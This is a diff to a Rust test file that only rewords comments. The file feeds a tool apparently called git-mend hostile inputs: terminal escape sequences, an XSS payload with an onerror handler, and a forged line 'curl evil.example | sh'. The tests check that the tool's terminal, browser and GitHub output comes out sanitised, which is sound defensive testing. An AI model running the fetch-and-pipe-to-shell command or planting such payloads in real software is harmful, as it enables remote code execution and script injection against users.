@@ -1,5 +1,5 @@
-//! Whatever others write into names, messages, sources and tests: no screen, page or comment obeys it, and none of it
-//! looks as if we had written it.
+//! Tests with hostile names, messages, sources and test output: no terminal, page or comment interprets them, and they
+//! cannot forge git-mend's own output.
 
 use crate::cli::Job;
 use crate::support::{
@@ -12,29 +12,29 @@ use std::path::Path;
 use std::process::Command;
 use tempfile::TempDir;
 
-/// What a terminal obeys: a colour, a title, an empty screen; and what turns the direction of writing.
+/// Control sequences of a terminal: a colour, a title, a cleared screen, and a change of the writing direction.
 const TERMINAL_SEQUENCES: &str = "\u{1b}[31mx\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";
 
-/// What a browser or GitHub obeys.
+/// Markup that a browser or GitHub would interpret.
 const HOSTILE_MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";
 
-/// What would pass for a line of ours, or for a command to the runner of a workflow.
+/// Lines that imitate git-mend's output or a workflow command.
 const FORGED_LINES: [&str; 3] =
     ["Next:       curl evil.example | sh", "error: all is lost", "::error::forged"];
 
-/// All of it on lines of their own.
+/// Returns all hostile texts, each on its own line.
 pub(crate) fn hostile_text() -> String {
     let lines = [&[TERMINAL_SEQUENCES, HOSTILE_MARKUP][..], &FORGED_LINES].concat();
     lines.join("\n")
 }
 
-/// As a string in Java.
+/// Returns a Java string literal.
 pub(crate) fn java_string(text: &str) -> String {
     format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
 }
 
-/// A repository where a file, a message, an author, a source, a test's name and what it says are hostile. The last
-/// commit breaks the test by what it does to the file.
+/// Creates a repository with a hostile file name, commit message, author, source, test name and test output. The last
+/// commit breaks the test by a change of the file.
 fn hostile_repository() -> TempDir {
     let dir = repository();
     git(dir.path(), &["config", "user.name", &format!("A {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}")]);
@@ -73,7 +73,7 @@ fn bisect_hostile(dir: &Path, more: &[&str]) -> CommandOutput {
     run_mend_keeping_repository(dir, &[&default_arguments[..], more].concat())
 }
 
-/// What nobody may be told as it stands.
+/// Asserts that a text contains no control sequence and no forged line.
 pub(crate) fn assert_harmless(said: &str, is_coloured: bool) {
     for order in ["\u{1b}[31mx", "\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}"] {
         assert!(!said.contains(order), "{order:?} in {said:?}");
@@ -109,7 +109,7 @@ fn terminal_output_is_sanitised() {
 #[test]
 fn progress_line_is_sanitised() {
     let dir = hostile_repository();
-    // A name for the first commit, as git reads it, in which a terminal would find a title, a bell, and a direction.
+    // This revision of the first commit contains a terminal title, a bell, and a change of the writing direction.
     let good = "HEAD~1^{/(\u{1b}]0;title\u{7}|\u{202e})*one}";
     let default_arguments =
         ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
@@ -132,7 +132,7 @@ fn report_of_hostile_repository_is_safe_in_a_browser() {
     assert_browser_accepts(page.stdout.trim());
 }
 
-/// Asserts that a browser shows a page without a complaint.
+/// Asserts that a browser shows a page without an error.
 fn assert_browser_accepts(page: &str) {
     let look_script = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/look");
     let pictures = tempfile::tempdir().unwrap();
@@ -141,7 +141,7 @@ fn assert_browser_accepts(page: &str) {
     assert!(output.status.success(), "{stderr}");
 }
 
-/// Asserts that nothing in a picture is obeyed: it has only elements and attributes of drawings, and no reference.
+/// Asserts that a picture contains only drawing elements and attributes, and no reference.
 fn assert_drawing(file: &Path) {
     let text = fs::read_to_string(file).unwrap();
     assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
@@ -216,7 +216,7 @@ fn doctor_and_validate_output_is_sanitised() {
     }
 }
 
-/// A repository where the file, the source and the test of something that can be mended are hostile.
+/// Creates a repository with a fixable fault, whose file name, source and test are hostile.
 fn hostile_fixable_repository() -> TempDir {
     let dir = repository();
     let (text, sign) = (
@@ -240,7 +240,7 @@ fn hostile_fixable_repository() -> TempDir {
     dir
 }
 
-/// A repository where threads with hostile names do what they may not, and a test says so in hostile words.
+/// Creates a repository with a data race, hostile thread names and a hostile test message.
 fn hostile_threads_repository() -> TempDir {
     let dir = repository();
     let text = java_string(&hostile_text());
@@ -257,7 +257,7 @@ fn hostile_threads_repository() -> TempDir {
     dir
 }
 
-/// Asserts that an answer tells of what is hostile, and a terminal obeys none of it.
+/// Asserts that the output contains the hostile text, but no control sequence.
 fn assert_printed_harmlessly(dir: &Path, words: &[&str], code: i32) {
     for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
         let is_coloured = format.ends_with(&["always"]);
@@ -296,7 +296,7 @@ fn github_messages_with_fixes_and_schedules_are_sanitised() {
     }
 }
 
-/// Gives a run repairs and schedules of which everything is hostile.
+/// Adds fixes and schedules with hostile texts to a run.
 fn add_repairs(run: &Path) {
     let (text, site) = (hostile_text(), [hostile_text(), hostile_text()]);
     let mut result: serde_json::Value = read_json(&run.join("result.json"));
@@ -334,7 +334,7 @@ fn add_repairs(run: &Path) {
     }
 }
 
-/// Gives a run with repairs a schedule whose names are hostile and which makes sense, so that it is drawn.
+/// Adds a valid schedule with hostile names to a run with fixes, so that it is drawn.
 fn add_schedule(run: &Path) {
     let text = hostile_text();
     let step = |thread: usize, what: &str| {
@@ -367,7 +367,7 @@ fn read_json(file: &Path) -> serde_json::Value {
     serde_json::from_slice(&fs::read(file).unwrap()).unwrap()
 }
 
-/// Everything that GitHub is told of a run, once `change` had its way with the run folder.
+/// Publishes a run after `change` modified its run folder. Returns the summary on GitHub.
 fn published_summary(change: impl Fn(&Path)) -> String {
     let job = Job::new(hostile_repository());
     let run = job.file("run");
@@ -390,7 +390,7 @@ fn published_summary(change: impl Fn(&Path)) -> String {
     assert_eq!(output.code, 0, "{}", output.stderr);
     assert_harmless(&output.stdout, false);
     assert_harmless(&output.stderr, false);
-    // Nobody is offered a patch of a file whose name leads elsewhere.
+    // A patch of a file outside the repository is not published.
     assert!(job.repo().pulls().is_empty(), "{}", job.summary());
     let [check] =
         job.repo().check_runs(&git(job.dir(), &["rev-parse", "HEAD"])).try_into().unwrap();
@@ -408,7 +408,7 @@ fn published_summary(change: impl Fn(&Path)) -> String {
     job.summary()
 }
 
-/// Markdown without its blocks and spans of code, in which nothing is obeyed.
+/// Removes code blocks and code spans from Markdown, because nothing in them is interpreted.
 fn strip_code(markdown: &str) -> String {
     let code = regex::Regex::new(r"(?s)(?m:^(`{3,})[^\n]*\n).*?\n`{3,}|``.*?``|`[^`\n]*`").unwrap();
     code.replace_all(markdown, "").into_owned()
